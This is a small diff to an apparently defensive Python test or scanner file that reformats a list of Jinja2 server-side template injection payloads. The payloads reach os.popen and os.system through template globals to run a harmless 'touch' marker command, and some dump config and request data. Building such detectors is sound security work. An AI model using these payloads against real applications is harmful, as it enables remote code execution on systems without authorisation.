@@ -21,7 +21,9 @@ _SHELL = f"touch {MARKER}"
 PAYLOADS = [
     "{{ 7*191 }}",
     "{{ cycler.__init__.__globals__.os.popen('" + _SHELL + "').read() }}",
-    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('" + _SHELL + "') }}",
+    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('"
+    + _SHELL
+    + "') }}",
     "{{ lipsum.__globals__['os'].popen('" + _SHELL + "').read() }}",
     "{{ ''.__class__.__mro__[1].__subclasses__() }}",
     "{{ config.items() }}{{ request }}",
